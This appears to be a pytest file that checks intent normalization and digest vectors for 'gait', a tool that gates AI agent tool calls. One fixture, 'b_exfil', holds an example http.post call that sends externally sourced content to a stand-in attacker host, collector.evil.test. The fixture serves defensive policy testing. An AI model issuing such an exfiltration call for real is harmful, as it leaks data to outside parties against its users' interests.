"""Verified reference vectors: intent.md §11.3 / §13 and policy_cli.md fixtures."""

from __future__ import annotations

import json

import pytest

from gait.canonical import canonical_bytes
from gait.intent import (
    args_digest,
    decode_intent_bytes,
    intent_digest,
    intent_digest_payload,
    intent_to_dict,
    normalize_intent,
    prepare_intent,
)

VECTOR_1 = (
    b'{"schema_id":"gait.gate.intent_request","schema_version":"1.0.0",'
    b'"created_at":"2026-02-18T00:00:00Z","producer_version":"0.0.0-dev",'
    b'"tool_name":"tool.write","args":{"path":"/tmp/approve-valid.txt"},'
    b'"targets":[{"kind":"path","value":"/tmp/approve-valid.txt","operation":"write",'
    b'"endpoint_class":"fs.write"}],"arg_provenance":[{"arg_path":"$.path","source":"user"}],'
    b'"context":{"identity":"agent.scenario","workspace":"/repo/gait","risk_class":"high",'
    b'"session_id":"sess-tier11"}}'
)
VECTOR_1_PAYLOAD = (
    b'{"arg_provenance":[{"arg_path":"$.path","source":"user"}],'
    b'"args":{"path":"/tmp/approve-valid.txt"},'
    b'"context":{"identity":"agent.scenario","phase":"apply","risk_class":"high",'
    b'"session_id":"sess-tier11","workspace":"/repo/gait"},'
    b'"targets":[{"discovery_method":"unknown","endpoint_class":"fs.write","kind":"path",'
    b'"operation":"write","value":"/tmp/approve-valid.txt"}],"tool_name":"tool.write"}'
)
VECTOR_1_DIGEST = "4b53bb79e35105ac9170963ac6f84ed0ed15530c68f06a46fc1233c5ec766913"

VECTOR_2 = (
    b'{"tool_name":"ignored","script":{"steps":[{"tool_name":"Tool.Read","args":{"path":"/a"},'
    b'"targets":[{"kind":"path","value":"/a"}]},{"tool_name":"tool.write","args":{"path":"/b"},'
    b'"targets":[{"kind":"path","value":"/b","operation":"write"}],'
    b'"arg_provenance":[{"arg_path":"$.path","source":"user"}]}]},'
    b'"context":{"identity":"i","workspace":"/w","risk_class":"low"}}'
)
VECTOR_2_PAYLOAD = (
    b'{"arg_provenance":[{"arg_path":"$.path","source":"user"}],"args":{},'
    b'"context":{"identity":"i","phase":"apply","risk_class":"low","workspace":"/w"},'
    b'"script":{"steps":[{"args":{"path":"/a"},"targets":[{"discovery_method":"unknown",'
    b'"endpoint_class":"fs.read","kind":"path","value":"/a"}],"tool_name":"tool.read"},'
    b'{"arg_provenance":[{"arg_path":"$.path","source":"user"}],"args":{"path":"/b"},'
    b'"targets":[{"discovery_method":"unknown","endpoint_class":"fs.write","kind":"path",'
    b'"operation":"write","value":"/b"}],"tool_name":"tool.write"}]},'
    b'"script_hash":"a9c9aed52da3ea0e84bf00249368e510b2608fc88f29105e03668e57e03e3cbf",'
    b'"targets":[{"discovery_method":"unknown","endpoint_class":"fs.read","kind":"path",'
    b'"value":"/a"},{"discovery_method":"unknown","endpoint_class":"fs.write","kind":"path",'
    b'"operation":"write","value":"/b"}],"tool_name":"script"}'
)
VECTOR_2_SCRIPT_HASH = "a9c9aed52da3ea0e84bf00249368e510b2608fc88f29105e03668e57e03e3cbf"
VECTOR_2_DIGEST = "24142106de2529b99cbf3e3e880f70fceb716b91e68df84ab73de2ac9ecd50a6"

# policy_cli.md running example: fixtures/a_read.json, b_exfil.json, c_write.json
FIXTURE_A = (
    b'{"tool_name":"fs.read","args":{"path":"/repo/README.md"},'
    b'"targets":[{"kind":"path","value":"/repo/README.md","operation":"read"}],'
    b'"arg_provenance":[{"arg_path":"$.path","source":"user"}],'
    b'"context":{"identity":"dev-bot","workspace":"/repo","risk_class":"low"}}'
)
FIXTURE_B = (
    b'{"tool_name":"http.post","args":{"url":"https://collector.evil.test/upload",'
    b'"body":"see attached"},"targets":[{"kind":"url",'
    b'"value":"https://collector.evil.test/upload","operation":"post"}],'
    b'"arg_provenance":[{"arg_path":"$.body","source":"external","source_ref":"web:page-42"}],'
    b'"context":{"identity":"dev-bot","workspace":"/repo","risk_class":"high"}}'
)
FIXTURE_C = (
    b'{"tool_name":"fs.write","args":{"path":"/repo/out.txt","content":"hello"},'
    b'"targets":[{"kind":"path","value":"/repo/out.txt","operation":"write"}],'
    b'"arg_provenance":[{"arg_path":"$.content","source":"user"}],'
    b'"context":{"identity":"dev-bot","workspace":"/repo","risk_class":"medium"}}'
)


def _load(data: bytes):
    return normalize_intent(decode_intent_bytes(data))


def test_vector_1_payload_bytes_are_exact() -> None:
    assert canonical_bytes(intent_digest_payload(_load(VECTOR_1))) == VECTOR_1_PAYLOAD


def test_vector_1_intent_digest() -> None:
    assert intent_digest(_load(VECTOR_1)) == VECTOR_1_DIGEST


def test_vector_2_payload_bytes_are_exact() -> None:
    assert canonical_bytes(intent_digest_payload(_load(VECTOR_2))) == VECTOR_2_PAYLOAD


def test_vector_2_script_hash_and_digest() -> None:
    intent = _load(VECTOR_2)
    assert intent.script_hash == VECTOR_2_SCRIPT_HASH
    assert intent.tool_name == "script"
    assert intent_digest(intent) == VECTOR_2_DIGEST


@pytest.mark.parametrize(
    ("fixture", "expected"),
    [
        (FIXTURE_A, "a0583979cc03519b72bb744b6e848425411b644d67de964e86c2856c1673181a"),
        (FIXTURE_B, "c952f56119a7b89d717f4b81d0f1b02ba701d85cde5bf643e061d1b4b0fee1c6"),
        (FIXTURE_C, "1635dff29eaa8475c3afe7e0573ae0f1e9d6fd30c8a316d367c5e36786444e24"),
    ],
    ids=["a_read", "b_exfil", "c_write"],
)
def test_policy_cli_running_example_digests(fixture: bytes, expected: str) -> None:
    intent = _load(fixture)
    assert intent_digest(intent) == expected
    # No evidence claims: the gate-eval (prepared) digest is the same one.
    assert intent_digest(prepare_intent(intent)) == expected
    assert intent_to_dict(intent)["intent_digest"] == expected


def test_fixture_b_url_target_infers_domain_and_http_class() -> None:
    (target,) = _load(FIXTURE_B).targets
    assert target.endpoint_class == "net.http"
    assert target.endpoint_domain == "collector.evil.test"
    assert target.destructive is False


OWN_EXAMPLE = {
    "tool_name": " Tool.Fetch ",
    "args": {"url": " https://api.example.com/v1 "},
    "targets": [{"kind": "URL", "value": "https://API.example.com:8443/v1"}],
    "arg_provenance": [{"arg_path": "$.url", "source": "External"}],
    "context": {"identity": "bot-7", "workspace": "C:\\work\\repo", "risk_class": "HIGH"},
}


def test_own_example_section_13() -> None:
    intent = normalize_intent(decode_intent_bytes(json.dumps(OWN_EXAMPLE).encode()))
    assert intent.tool_name == "tool.fetch"
    assert intent.args == {"url": "https://api.example.com/v1"}
    payload = intent_digest_payload(intent)
    assert payload["targets"] == [
        {
            "kind": "url",
            "value": "https://API.example.com:8443/v1",
            "endpoint_class": "net.http",
            "endpoint_domain": "api.example.com",
            "discovery_method": "unknown",
        }
    ]
    assert payload["arg_provenance"] == [{"arg_path": "$.url", "source": "external"}]
    assert payload["context"] == {
        "identity": "bot-7",
        "workspace": "C:/work/repo",
        "risk_class": "high",
        "phase": "apply",
    }


def test_own_example_same_from_dict_and_bytes() -> None:
    from_bytes = normalize_intent(decode_intent_bytes(json.dumps(OWN_EXAMPLE).encode()))
    assert normalize_intent(OWN_EXAMPLE) == from_bytes


def test_args_digest_of_vector_1() -> None:
    intent = _load(VECTOR_1)
    from gait.canonical import digest

    assert args_digest(intent) == digest({"path": "/tmp/approve-valid.txt"})
    assert args_digest(_load(VECTOR_2)) == (
        "44136fa355b3678a1146ad16f7e8649e94fb4fc21fe77e8310c060f61caaff8a"
    )
